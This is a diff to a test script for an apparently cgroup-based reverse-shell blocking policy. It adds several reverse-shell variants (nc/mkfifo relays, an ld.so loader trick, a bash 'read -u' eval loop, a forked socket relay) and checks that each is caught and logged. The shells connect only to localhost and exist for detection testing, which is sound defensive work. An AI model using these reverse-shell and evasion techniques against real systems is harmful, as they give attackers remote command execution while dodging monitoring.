@@ -15,8 +15,12 @@ s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 if mode == "listen":
     s.bind(("127.0.0.1", port)); s.listen(4)
     print("ready", flush=True)
-    s.settimeout(20)
-    c = s.accept()[0]
+    s.settimeout(8)
+    try:
+        c = s.accept()[0]
+    except OSError:
+        print("nothing", flush=True)
+        sys.exit()
 else:
     for i in range(100):
         try:
@@ -24,7 +28,7 @@ else:
         except OSError:
             time.sleep(0.1)
     print("ready", flush=True)
-c.settimeout(20)
+c.settimeout(8)
 data = b""
 try:
     c.sendall(b"echo GOT$((40+2))\n")
@@ -89,18 +93,78 @@ b = bytearray(4096)
 while n := s.recv_into(b):
     s.sendall(subprocess.run(b[:n].decode(), shell=True, capture_output=True).stdout)'
 
-names=(nc_fifo socat_fifo socat_exec socat_pty socat_script)
+# The one receives, the other executes.
+handed_on="rm -f f; mkfifo f; nc 127.0.0.1 4320 <f | xargs -I@ sh -c @ >f 2>&1"
+loader_first='rm -f f; mkfifo f; exec 8<>f; ./app /bin/sh <f 2>&1 | { sleep 1; nc 127.0.0.1 4320 >f; }'
+long_chain='rm -f f; mkfifo f; cat f | cat | cat | cat | cat | cat | /bin/sh 2>&1 | cat | cat | nc 127.0.0.1 4320 >f'
+# Between shell and connection a program that holds other pipes, and opened them first.
+cat >between.py <<'END'
+import os, select, socket, subprocess, sys
+spare = [os.pipe() for i in range(int(sys.argv[1]))]
+p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
+a, b = socket.socketpair()
+if not os.fork():
+    s = socket.create_connection(("127.0.0.1", 4320))
+    os.closerange(3, b.fileno()); a = None
+    while True:
+        for f in select.select([s, b], [], [])[0]:
+            d = f.recv(4096)
+            if not d:
+                sys.exit()
+            (b if f is s else s).sendall(d)
+b.close()
+while True:
+    for f in select.select([a, p.stdout], [], [])[0]:
+        d = os.read(f.fileno(), 4096)
+        if not d:
+            sys.exit()
+        p.stdin.write(d) if f is a else a.sendall(d)
+END
+# ld.so runs the shell: exec sees another program.
+cat >loader.py <<'END'
+import os, socket, sys
+s = socket.create_connection(("127.0.0.1", 4320))
+for i in (0, 1, 2): os.dup2(s.fileno(), i)
+os.execv(sys.argv[1], ["app", "/bin/sh"])
+END
+# No standard descriptor is the connection, but the shell reads it.
+cat >read_u.py <<'END'
+import os, socket
+s = socket.create_connection(("127.0.0.1", 4320))
+os.dup2(s.fileno(), 9)
+os.execv("/bin/bash", ["bash", "-c", 'while read -r -u 9 l; do eval "$l" >&9; done'])
+END
+# A packet socket is a connection to everybody.
+cat >packets.py <<'END'
+import os, socket, subprocess, sys
+s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x300)
+s.bind(("lo", 0x300))
+p = subprocess.run(["/bin/sh"], input=b"echo GOT$((40+2))", capture_output=True)
+print("owned" if b"GOT42" in p.stdout else "nothing")
+END
+cp /lib64/ld-linux-x86-64.so.2 app
+
+names=(nc_fifo socat_fifo socat_exec socat_pty socat_script loader_first long_chain handed_on)
 for name in "${names[@]}"; do
 	contains "without a policy: $name" owned bash_c "${!name}"
 done
 for name in shell_first socket_later; do
 	contains "without a policy: $name" owned attack $python $dir/$name.py
 done
+for loader in /lib64/ld-linux-x86-64.so.2 $dir/app; do
+	contains "without a policy: $loader" owned attack $python $dir/loader.py $loader
+done
+contains 'without a policy: between' owned attack $python $dir/between.py 2
+contains 'without a policy: read_u' owned attack $python $dir/read_u.py
+contains 'without a policy: packets' owned in_cgroup "$cg" $python packets.py
 contains 'without a policy: received' owned attack $python -c "$received"
 
 policy=relays
 cg=$(cgroup deny)
-govern relays "$cg" <<<'shells: {reverse: deny, bind: deny, connect: deny}' || fail 'a policy is pushed'
+govern relays "$cg" <<'END' || fail 'a policy is pushed'
+shells: {reverse: deny, bind: deny, connect: deny}
+memory: {jit: {default: deny}}
+END
 before=$(counter relays reverse_shell)
 is_stopped() {
 	lacks "$1: is stopped" owned "${@:2}"
@@ -115,5 +179,18 @@ equals 'the event has the peer' 4320 "$(field peer_port)"
 equals 'the shell is its target' sh "$(field target_comm)"
 equals 'and the link' unix "$(field link)"
 is_stopped socket_later attack $python $dir/socket_later.py
+for loader in /lib64/ld-linux-x86-64.so.2 $dir/app; do
+	is_stopped "$loader" attack $python $dir/loader.py $loader
+	equals 'when the shell is mapped' map "$(field op)"
+done
+contains 'the loader runs a shell that is at no connection' hello in_cgroup "$cg" \
+	/lib64/ld-linux-x86-64.so.2 /bin/sh -c 'echo hello'
+for spare in 0 2; do
+	is_stopped "between, with $spare other pipes" attack $python $dir/between.py $spare
+done
+is_stopped read_u attack $python $dir/read_u.py
+lacks 'packets: is stopped' owned in_cgroup "$cg" $python packets.py
+equals 'and counted' $((before + 1)) "$(counter relays reverse_shell)"
+before=$(counter relays reverse_shell)
 is_stopped received attack $python -c "$received"
 equals 'the receiver is named' python3 "$(field target_comm)"
